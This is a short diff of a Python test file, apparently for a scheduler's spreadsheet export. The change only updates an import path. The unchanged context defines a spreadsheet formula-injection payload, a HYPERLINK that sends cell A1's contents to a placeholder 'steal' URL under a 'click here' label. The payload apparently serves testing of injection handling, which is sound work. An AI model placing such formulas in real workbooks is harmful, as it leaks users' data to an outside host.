@@ -15,7 +15,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from scheduler.config import config_template
+from loa.scheduler.config import config_template
 from support.organization import fill_organization
 
 FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'
